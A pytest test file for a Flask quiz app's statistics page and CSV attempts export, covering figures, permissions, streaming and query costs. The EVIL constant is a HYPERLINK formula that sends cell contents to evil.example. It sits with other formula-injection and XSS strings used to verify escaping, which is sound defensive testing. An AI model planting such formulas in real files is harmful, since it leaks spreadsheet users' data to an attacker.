"""What came of a quiz, as its editors see it: the page, and the file of all attempts."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from uuid import UUID

import pytest
import sqlalchemy as sa
from flask import Flask
from sqlalchemy.orm import Session

from respondeo.db import db
from respondeo.domain.document import Answer, Question
from respondeo.models import Quiz, User
from respondeo.services import attempts_file, authoring
from tests.client import Client, Page
from tests.conftest import Clock
from tests.factories import add_user, document, editor, guest, player, published_quiz, question
from tests.services.plays import play, start
from tests.web.apps import AppWith, Browser, Recorder
from tests.web.places import person_with
from tests.web.playing import document_of

EVIL = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


def page_of(quiz: Quiz) -> str:
    return f"/quiz/{quiz.id}/statistics"


def played(session: Session, quiz: Quiz, name: str = "A Player", **how: object) -> User:
    """Somebody new who plays the quiz to its end; returns them."""
    user = add_user(session, name)
    play(session, player(user), quiz, **how)  # type: ignore[arg-type]
    return user


def table(client: Client, quiz: Quiz) -> list[list[str]]:
    """The file as a spreadsheet reads it."""
    response = client.get(f"{page_of(quiz)}.csv")
    assert response.status_code == 200
    data = response.get_data()
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    assert text.replace("\r\n", "").count("\n") == text.count("\n") - text.count("\r\n")
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


@pytest.fixture
def admin(browser: Browser) -> Client:
    return browser("An Admin", "admin")


# -- the page --------------------------------------------------------------------------------------


def test_the_page_tells_figures_questions_and_attempts(admin: Client, committed: Session) -> None:
    quiz = published_quiz(committed, questions=2, max_attempts=5, title="Rivers")
    played(committed, quiz, "Ada", answers=[True, True])
    played(committed, quiz, "Bob", answers=[True, False])
    play(committed, guest(), quiz, [True, False])
    committed.commit()
    page = admin.page(page_of(quiz))
    assert page.title() == "Statistics: Rivers · Respondeo"
    facts = page.words(".key-figures")
    assert "Completed attempts 3" in facts
    assert "People 2 and 1 guest" in facts
    assert "Median score 1 of 2" in facts
    first, second = page.all(".figures")
    assert "100% right" in first.to_text()
    assert "33% right" in second.to_text()
    assert "Reached by 3" in " ".join(second.to_text().split())
    right = second.query("li.is-right")[0]
    assert " ".join(right.to_text().split()) == "Answer A of 2 Right 1 33%"
    attempts = page.words("#attempts")
    for name in ("Ada", "Bob", "A guest"):
        assert name in attempts


def test_a_chart_has_the_same_numbers_as_its_table(admin: Client, committed: Session) -> None:
    quiz = published_quiz(committed, questions=3)
    for right in (0, 2, 2, 3):
        played(committed, quiz, answers=[number < right for number in range(3)])
    committed.commit()
    page = admin.page(page_of(quiz))
    scores = page.all(".histogram")[0]
    rows = [
        tuple(cell.to_text().strip() for cell in row.query("td"))
        for row in scores.query("tbody tr")
    ]
    assert rows == [("0", "1"), ("1", "0"), ("2", "2"), ("3", "1")]
    drawn = [float(bar.attrs["height"]) for bar in scores.query("rect")]
    assert drawn == [drawn[0], 2 * drawn[0], drawn[0]]
    assert [mark.to_text() for mark in scores.query("text.bar-number")] == ["1", "2", "1"]


def test_editors_read_real_names(admin: Client, committed: Session) -> None:
    quiz = published_quiz(committed, questions=1)
    hidden = played(committed, quiz, "Legal Name")
    hidden.shown_as = "hidden"
    committed.commit()
    assert "Legal Name" in admin.page(page_of(quiz)).words("#attempts")
    rows = table(admin, quiz)
    assert rows[1][0] == "Legal Name"
    text = admin.get(f"{page_of(quiz)}.csv").get_data(as_text=True)
    assert "people.example" not in text + admin.page(page_of(quiz)).text


def test_the_authors_own_attempts_are_listed_and_not_counted(
    admin: Client, committed: Session
) -> None:
    quiz = published_quiz(committed, questions=1)
    author = committed.get_one(User, quiz.author_id)
    play(committed, editor(author), quiz)
    committed.commit()
    page = admin.page(page_of(quiz))
    assert "Nobody has played this yet." in page.words()
    assert "not counted" in page.words(".empty")
    assert "the author’s, not counted" in page.words("#attempts")
    played(committed, quiz)
    committed.commit()
    page = admin.page(page_of(quiz))
    assert "Completed attempts 1" in page.words(".key-figures")
    assert [row[-2] for row in table(admin, quiz)[1:]] == ["no", "yes"]


def test_a_quiz_that_nobody_played_says_what_to_do(admin: Client, committed: Session) -> None:
    quiz = published_quiz(committed, questions=1)
    committed.commit()
    page = admin.page(page_of(quiz))
    assert "Nobody has played this yet." in page.words(".empty")
    assert page.one("#share-link").attrs["value"] == f"http://localhost/quiz/{quiz.id}"
    assert not page.all("#attempts, .histogram, a[download]")
    start(committed, player(add_user(committed)), quiz)
    committed.commit()
    assert "1 attempt is unfinished" in admin.page(page_of(quiz)).words(".empty")


def test_a_draft_and_a_quiz_to_come_have_no_link_to_send(
    admin: Client, committed: Session, committed_clock: Clock
) -> None:
    author = add_user(committed)
    quiz = authoring.create_quiz(committed, author.id, document(1))
    committed.commit()
    page = admin.page(page_of(quiz))
    assert "it is not published" in page.words(".empty")
    assert not page.all("#share-link")
    assert table(admin, quiz) == [[*table(admin, quiz)[0]]]


def test_the_page_is_right_at_the_next_read(
    admin: Client, committed: Session, committed_clock: Clock
) -> None:
    quiz = published_quiz(committed, questions=2, time_limit_seconds=60)
    start(committed, player(add_user(committed, "Slow Player")), quiz)
    committed.commit()
    assert "Nobody has finished yet." in admin.page(page_of(quiz)).words()
    committed_clock.advance(seconds=100)
    committed.commit()
    facts = admin.page(page_of(quiz)).words(".key-figures")
    assert "Out of time 100% 1" in facts
    assert "Median time 1:00" in facts
    committed_clock.advance(seconds=1)
    start(committed, player(add_user(committed)), quiz)
    committed_clock.advance(seconds=100)
    committed.commit()
    assert len(table(admin, quiz)) == 3


def test_a_changed_question_tells_its_wordings_apart(admin: Client, committed: Session) -> None:
    doc = document(2)
    quiz = published_quiz(committed, doc)
    played(committed, quiz, answers=[False, True])
    first, second = doc.questions
    picture = "https://pictures.example/new"
    reworded = first.model_copy(update={"text": "In other words?", "image_url": picture})
    changed = doc.model_copy(update={"questions": (reworded, question(3))})
    authoring.save_draft(committed, editor(), quiz.id, changed)
    authoring.publish(committed, editor(), quiz.id)
    played(committed, quiz)
    committed.commit()
    page = admin.page(page_of(quiz))
    now, new, gone = page.all(".figures")
    said = " ".join(now.to_text().split())
    assert "Changed in version 2; 1 answer before that to an earlier wording" in said
    assert "50% were right (1 of 2)" in said
    assert "Question 1?" in " ".join(now.query("details")[0].to_text().split())
    assert [image.attrs["src"] for image in page.all(".figures img")] == [picture]
    assert "Question 3?" in new.to_text()
    assert "No longer in the quiz" in gone.to_text()
    assert second.text in gone.to_text()
    narrowed = admin.page(f"{page_of(quiz)}?version=1")
    assert "Completed attempts 1" in narrowed.words(".key-figures")
    assert [chip.attrs["href"] for chip in narrowed.all(".chip[aria-current]")] == [
        f"{page_of(quiz)}?version=1"
    ]
    assert "In other words?" not in narrowed.text
    assert "version 2" not in narrowed.words("#attempts")


@pytest.mark.parametrize("asked", ["3", "0", "-1", "x", "%00", "9" * 40, "１"])
def test_a_version_that_nobody_played_narrows_nothing(
    admin: Client, committed: Session, asked: str
) -> None:
    doc = document(1)
    quiz = published_quiz(committed, doc)
    played(committed, quiz)
    authoring.save_draft(committed, editor(), quiz.id, doc.model_copy(update={"title": "New"}))
    authoring.publish(committed, editor(), quiz.id)
    played(committed, quiz)
    committed.commit()
    page = admin.page(f"{page_of(quiz)}?version={asked}")
    assert "Completed attempts 2" in page.words(".key-figures")


def test_attempts_come_in_pages_and_keep_the_version(admin: Client, committed: Session) -> None:
    doc = document(1, feedback="end")
    quiz = published_quiz(committed, doc)
    for number in range(31):
        played(committed, quiz, f"Player {number}")
    authoring.save_draft(committed, editor(), quiz.id, doc.model_copy(update={"title": "New"}))
    authoring.publish(committed, editor(), quiz.id)
    played(committed, quiz, "The Last")
    committed.commit()
    page = admin.page(f"{page_of(quiz)}?version=1")
    assert len(page.all("#attempts tbody tr")) == 30
    assert "The Last" not in page.text
    next_page = page.one("#attempts a[rel=next]").attrs["href"]
    assert next_page == f"{page_of(quiz)}?version=1&attempts=2#attempts"
    assert "Player 0" in admin.page(next_page.partition("#")[0]).words("#attempts")


def test_texts_are_shown_literally(admin: Client, committed: Session) -> None:
    nasty = '<script>alert(1)</script> & "quotes" {{ 7*7 }}'
    asked = Question(
        text=nasty,
        answers=(Answer(text=nasty, is_correct=True), Answer(text="<b>x</b>", is_correct=False)),
    )
    quiz = published_quiz(committed, document_of(asked, title=nasty[:70]))
    played(committed, quiz, "<i>Bobby</i>")
    committed.commit()
    page = admin.page(page_of(quiz))
    assert page.words(".figures").count(nasty) == 2
    assert not page.all("b, i")


def test_editors_find_the_page_from_the_quiz_and_its_results(
    browser: Browser, admin: Client, committed: Session
) -> None:
    quiz = published_quiz(committed, questions=1)
    played(committed, quiz)
    committed.commit()
    for path in (f"/quiz/{quiz.id}", f"/quiz/{quiz.id}/results"):
        assert admin.page(path).all(f"main a[href='{page_of(quiz)}']")
        assert not browser("Another").page(path).all(f"a[href='{page_of(quiz)}']")


# -- who may ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("ending", ["", ".csv"])
def test_only_those_who_may_edit_the_quiz_get_in(
    app_with: AppWith, committed: Session, ending: str
) -> None:
    app = app_with(rbac_role_creator_groups="teachers", rbac_role_moderator_groups="heads")
    author = add_user(committed, "The Author", groups=["teachers"])
    quiz = authoring.create_quiz(committed, author.id, document(1))
    authoring.publish(committed, editor(author), quiz.id)
    people = {
        "author": (author.id, 200, 200),
        "another author": (person_with(committed, "B", "teachers"), 403, 404),
        "moderator": (person_with(committed, "C", "heads"), 200, 200),
        "admin": (person_with(committed, "D", "admin"), 200, 200),
        "player": (person_with(committed, "E"), 403, 404),
        "nobody": (None, 303, 303),
    }
    played(committed, quiz)
    committed.commit()

    def ask(user_id: UUID | None) -> int:
        client = Client(app)
        if user_id is not None:
            client.sign_in(user_id)
        return client.get(f"{page_of(quiz)}{ending}").status_code

    assert {name: ask(who) for name, (who, _, _) in people.items()} == {
        name: public for name, (_, public, _) in people.items()
    }
    authoring.unpublish(committed, editor(author), quiz.id)
    committed.commit()
    assert {name: ask(who) for name, (who, _, _) in people.items()} == {
        name: hidden for name, (_, _, hidden) in people.items()
    }


# -- the file --------------------------------------------------------------------------------------


def test_the_file_has_a_row_for_each_attempt_and_a_column_for_each_question(
    admin: Client, committed: Session, committed_clock: Clock
) -> None:
    quiz = published_quiz(committed, questions=2, title="Ríos & mares", max_attempts=2)
    committed_clock.stop()
    played(committed, quiz, "Ada, the “first”\nof many", answers=[True, False])
    play(committed, guest(), quiz)
    committed.commit()
    head, ada, unknown = table(admin, quiz)
    assert head == [
        "Who", "Attempt", "Score", "Of", "Seconds", "Started (UTC)", "Completed (UTC)",
        "Version", "Timed out", "Ranked", "Counts in the statistics",
        "Q1: Question 1?", "Q2: Question 2?",
    ]  # fmt: skip
    now = f"{committed_clock.now():%Y-%m-%dT%H:%M:%S}Z"
    assert ada == [
        "Ada, the “first”\nof many", "1", "1", "2", "0.000", now, now, "1", "no", "yes", "yes",
        "Answer A of 1", "Answer B of 2",
    ]  # fmt: skip
    assert unknown[0] == "A guest"
    assert unknown[9] == "no"


def test_the_file_is_named_after_the_quiz_and_kept_by_nobody(
    admin: Client, committed: Session
) -> None:
    quiz = published_quiz(committed, questions=1, title='Ríos / "mares"; 日本')
    played(committed, quiz)
    committed.commit()
    response = admin.get(f"{page_of(quiz)}.csv")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == (
        'attachment; filename="Rios mares attempts.csv";'
        " filename*=UTF-8''R%C3%ADos%20mares%20%E6%97%A5%E6%9C%AC%20attempts.csv"
    )
    assert response.headers["Cache-Control"] == "no-store"
    assert "Content-Encoding" not in response.headers


HOSTILE = [EVIL, "+1", "-1", "@SUM(A1)", " =1", "＝1", "\u200b=1"]


@pytest.mark.parametrize("evil", HOSTILE)
def test_no_cell_is_a_formula(admin: Client, committed: Session, evil: str) -> None:
    asked = Question(
        text=evil,
        answers=(Answer(text=evil, is_correct=True), Answer(text="x;=1", is_correct=False)),
    )
    quiz = published_quiz(committed, document_of(asked, title=f"{evil} quiz"[:70]))
    played(committed, quiz, evil)
    played(committed, quiz, "Bob\t=1", answers=[False])
    committed.commit()
    head, first, second = table(admin, quiz)
    stored = asked.answers[0].text
    assert (first[0], first[-1]) == (f"'{evil}", f"'{stored}")
    assert head[-1] == f"Q1: {asked.text}"
    assert (second[0], second[-1]) == ("Bob\t'=1", "x;'=1")
    for cell in (*head, *first, *second):
        assert cell.strip("\u200b \t\r\n")[:1] not in set("=+-@＝")


def test_a_long_file_needs_no_more_at_once_than_a_short_one(
    admin: Client, committed: Session, recorder: Recorder, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(attempts_file, "AT_ONCE", 2)
    quiz = published_quiz(committed, questions=1)
    for number in range(5):
        played(committed, quiz, f"Player {number}")
    committed.commit()
    with recorder() as said:
        rows = table(admin, quiz)
    assert [row[0] for row in rows[1:]] == [f"Player {number}" for number in range(5)]
    pages = [statement for statement in said if "ORDER BY quiz_attempt.id" in statement]
    assert len(pages) == 4
    assert all("LIMIT" in statement for statement in pages)


def parts(client: Client, path: str) -> Iterator[bytes]:
    """The body as it comes; to be closed before its end."""
    response = client.http.get(path)
    assert response.status_code == 200
    yield from response.iter_encoded()
    response.close()


def test_who_reads_slowly_or_goes_away_holds_nothing(
    app: Flask, admin: Client, committed: Session, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(attempts_file, "AT_ONCE", 1)
    quiz = published_quiz(committed, questions=1)
    for _ in range(4):
        played(committed, quiz)
    quiz_id, path = quiz.id, f"{page_of(quiz)}.csv"
    committed.commit()
    with app.app_context():
        pool = db.engine.pool
    before = pool.checkedout()  # type: ignore[attr-defined]
    response = admin.http.get(path)
    body = iter(response.response)
    assert [next(body) for _ in range(3)]
    assert pool.checkedout() == before  # type: ignore[attr-defined]
    authoring.delete_quiz(committed, editor(), quiz_id)
    committed.commit()
    response.close()
    assert pool.checkedout() == before  # type: ignore[attr-defined]
    assert committed.scalar(sa.select(sa.func.count()).select_from(Quiz)) == 0
    assert admin.get("/").status_code == 200


def test_a_quiz_deleted_while_its_file_is_read_ends_the_file(
    admin: Client, committed: Session, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(attempts_file, "AT_ONCE", 1)
    quiz = published_quiz(committed, questions=1)
    for _ in range(4):
        played(committed, quiz)
    quiz_id, path = quiz.id, f"{page_of(quiz)}.csv"
    committed.commit()
    body = parts(admin, path)
    read = [next(body), next(body)]
    authoring.delete_quiz(committed, editor(), quiz_id)
    committed.commit()
    read += list(body)
    assert b"".join(read).count(b"\r\n") <= 3


# -- what it costs ---------------------------------------------------------------------------------


def test_the_page_costs_the_same_whatever_there_is(
    admin: Client, committed: Session, recorder: Recorder
) -> None:
    costs = []
    for questions, players in ((1, 1), (12, 8)):
        quiz = published_quiz(committed, questions=questions)
        for _ in range(players):
            played(committed, quiz)
        committed.commit()
        admin.page(page_of(quiz))
        with recorder() as said:
            page: Page = admin.page(page_of(quiz))
        assert len(page.all(".figures")) == questions
        costs.append(len(said))
    assert costs[0] == costs[1]
    assert costs[0] <= 20
